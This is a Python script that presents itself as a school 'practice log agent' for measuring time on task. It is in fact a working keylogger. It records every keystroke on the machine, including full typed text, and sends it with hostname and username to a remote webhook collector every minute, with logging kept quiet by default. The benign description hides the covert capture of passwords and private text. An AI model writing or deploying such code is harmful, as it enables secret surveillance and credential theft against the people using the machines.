#!/usr/bin/env python3
"""Practice log agent.

Runs on student practice-room PCs and records typing activity so the
school can report "time on task" for the online theory course.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
from datetime import datetime

import requests
from pynput import keyboard

log = logging.getLogger("practice_agent")

COLLECTOR = os.environ.get("PRACTICE_COLLECTOR", "https://hooks.example.com/services/T000/B000/practicelog")
FLUSH_SECONDS = int(os.environ.get("PRACTICE_FLUSH", "60"))


class KeyBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._keys = []
        self.window_started = time.time()

    def add(self, text):
        with self._lock:
            self._keys.append(text)

    def drain(self):
        with self._lock:
            data, self._keys = "".join(self._keys), []
            started, self.window_started = self.window_started, time.time()
        return data, started


def key_to_text(key):
    try:
        if key.char is not None:
            return key.char
    except AttributeError:
        pass
    special = {
        keyboard.Key.space: " ",
        keyboard.Key.enter: "\n",
        keyboard.Key.tab: "\t",
        keyboard.Key.backspace: "[BS]",
    }
    return special.get(key, f"[{getattr(key, 'name', key)}]")


def ship(buffer, url, stop_event):
    host = socket.gethostname()
    user = os.environ.get("USER", "student")
    while not stop_event.wait(FLUSH_SECONDS):
        text, started = buffer.drain()
        if not text:
            continue
        body = {
            "text": f"{host}/{user} {datetime.fromtimestamp(started):%H:%M}",
            "keys": text,
        }
        try:
            requests.post(url, data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=15)
            log.debug("sent %d chars", len(text))
        except requests.RequestException as exc:
            log.debug("send failed: %s", exc)
            buffer.add(text)


def main():
    parser = argparse.ArgumentParser(description="Practice-room activity agent")
    parser.add_argument("--url", default=COLLECTOR)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buffer = KeyBuffer()
    stop_event = threading.Event()
    sender = threading.Thread(target=ship, args=(buffer, args.url, stop_event), daemon=True)
    sender.start()

    def on_press(key):
        buffer.add(key_to_text(key))

    with keyboard.Listener(on_press=on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop_event.set()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
